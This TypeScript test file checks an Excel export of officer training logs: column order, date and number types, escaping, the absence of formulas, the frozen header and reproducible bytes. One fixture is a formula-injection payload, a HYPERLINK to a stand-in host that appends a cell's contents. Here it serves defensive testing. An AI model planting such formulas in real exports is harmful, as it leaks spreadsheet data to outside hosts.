// The Excel workbook of the log, read back: text is text, days are days, numbers are numbers, and nothing is a formula.
import { text as textOf } from 'node:stream/consumers'
import readExcelFile from 'read-excel-file/node'
import { expect, test } from 'vitest'
import yauzl from 'yauzl'
import { logColumns } from '../../src/export/log-columns.ts'
import { openTestApp, type TestApp } from '../support/an-app.ts'
import { logFile, madeTwice } from '../support/exported-log.ts'
import { certificatesOf, rosterOf } from '../support/import-rows.ts'

const workbook = { format: 'xlsx', audience: 'all' } as const
const now = '2026-11-23 09:00'

const hostile = '=HYPERLINK("http://x.example?"&A1,"Click")'
const strange = '<b>Ann & "Ace"</b> _x0041_ \u{1F46E} شيماء Łukasz'

/** In the order of their names the strange one comes first. */
const twoOfficers = async (): Promise<TestApp> => {
  const app = openTestApp({ now })
  await rosterOf(
    app,
    { officer: hostile, post_license: '00123', badge: '-1', assumed_on: '2026-08-31', school: '+1 School' },
    { officer: strange, post_license: '1E5', assumed_on: '2026-08-31', unable_attested_on: '2026-08-20' },
  )
  await certificatesOf(app, { post_license: '00123', kind: 'mandated', completed_on: '2026-08-01' })
  return app
}

/** Each part of the file by its name. */
const partsOf = async (bytes: Buffer): Promise<Readonly<Record<string, string>>> => {
  const zip = await yauzl.fromBufferPromise(bytes, { lazyEntries: true })
  const parts: Record<string, string> = {}
  for await (const entry of zip.eachEntry())
    parts[entry.fileName] = await textOf(await zip.openReadStreamPromise(entry))
  return parts
}

const rowsOf = async (bytes: Buffer) => {
  const sheets = await readExcelFile(bytes)
  const [header = [], ...rows] = sheets.find(({ sheet }) => sheet === 'Log')?.data ?? []
  return rows.map((row) => Object.fromEntries(header.map((name, n) => [String(name), row[n]])))
}

test('it has the columns of the log in their order', async () => {
  const [sheet] = await readExcelFile(await logFile(await twoOfficers(), workbook))
  expect(sheet?.data[0]).toEqual(logColumns.map(({ name }) => name))
})

test('days come back as days, numbers as numbers, and the moment of recording as a moment', async () => {
  const [, row] = await rowsOf(await logFile(await twoOfficers(), workbook))
  expect(row).toMatchObject({
    assumed_on: new Date('2026-08-31T00:00:00Z'),
    completed_on: new Date('2026-08-01T00:00:00Z'),
    // From Mon 2026-08-30, the day before the start, back to 2026-08-01.
    days_early_or_late: -29,
    recorded_at: new Date('2026-11-23T15:00:00Z'),
    ended_on: null,
  })
})

test('what looks like a number or a formula is text, as it was typed, without an apostrophe', async () => {
  const [other, row] = await rowsOf(await logFile(await twoOfficers(), workbook))
  expect(row).toMatchObject({ officer: hostile, post_license: '00123', badge: '-1', school: '+1 School' })
  expect(other).toMatchObject({ post_license: '1E5', duties_not_required: '4;5' })
})

test('no cell holds a formula, and each text cell has the format Text, so that it stays text when it is edited', async () => {
  const parts = await partsOf(await logFile(await twoOfficers(), workbook))
  const sheet = parts['xl/worksheets/sheet1.xml'] ?? ''
  expect(sheet).not.toContain('<f')
  const styles = [...sheet.matchAll(/<c r="[A-Z]+[2-9]" s="(\d)" t="inlineStr">/g)].map(([, style]) => style)
  expect(new Set(styles)).toEqual(new Set(['1']))
  const formats = [...(parts['xl/styles.xml'] ?? '').matchAll(/<xf numFmtId="(\d+)"/g)].map(([, id]) => id)
  // The first is of the style that all rest on; the one after plain, number 49, is Text (ECMA-376, § 18.8.30).
  expect(formats[2]).toBe('49')
})

test('markup, and what reads like an escape of Excel, is escaped (ECMA-376, § 22.9.2.19)', async () => {
  const parts = await partsOf(await logFile(await twoOfficers(), workbook))
  expect(parts['xl/worksheets/sheet1.xml']).toContain(
    '&lt;b&gt;Ann &amp; &quot;Ace&quot;&lt;/b&gt; _x005F_x0041_ \u{1F46E} شيماء Łukasz',
  )
})

test('the header row stays in sight and filters the rows, and is repeated on paper', async () => {
  const parts = await partsOf(await logFile(await twoOfficers(), workbook))
  expect(parts['xl/worksheets/sheet1.xml']).toMatch(/<pane ySplit="1" [^>]*state="frozen"\/>/)
  expect(parts['xl/worksheets/sheet1.xml']).toContain('<autoFilter ref="A1:AM3"/>')
  expect(parts['xl/workbook.xml']).toContain('localSheetId="0">Log!$1:$1</definedName>')
})

test('its second sheet says of which day and moment it is, what it was narrowed down to, and the head of the ledger', async () => {
  const app = await twoOfficers()
  const head = await app.db
    .selectFrom('ledger')
    .select('hash')
    .orderBy('seq', 'desc')
    .executeTakeFirstOrThrow()
  const sheets = await readExcelFile(await logFile(app, workbook, { officer: '00123', asOf: '2026-12-01' }))
  const said = new Map(
    sheets.find(({ sheet }) => sheet === 'About')?.data.map(([label, value]) => [label, value]),
  )
  expect(said.get('As of')).toBe('2026-12-01')
  expect(said.get('As known')).toBe('when it was made')
  expect(said.get('Narrowed down to')).toBe(`officer ${hostile}, post license 00123`)
  expect(said.get('Ledger head')).toMatch(new RegExp(`^\\d+:${Buffer.from(head.hash).toString('hex')}$`))
})

test('the same records and the same words about them give the same bytes, at any hour', async () => {
  const [first, second] = await madeTwice(await twoOfficers(), workbook)
  expect(first.equals(second)).toBe(true)
})

test('a log without rows is a workbook with its header row', async () => {
  const bytes = await logFile(await twoOfficers(), workbook, { until: '2020-01-01' })
  expect(await rowsOf(bytes)).toEqual([])
  expect((await partsOf(bytes))['xl/worksheets/sheet1.xml']).toContain('<autoFilter ref="A1:AM1"/>')
})

test("a coordinator's has the columns of the public facts alone", async () => {
  const bytes = await logFile(await twoOfficers(), { format: 'xlsx', audience: 'public' })
  const [row = {}] = await rowsOf(bytes)
  expect(Object.keys(row)).not.toContain('unable_attested_on')
  expect(Object.keys(row)).toHaveLength(31)
})
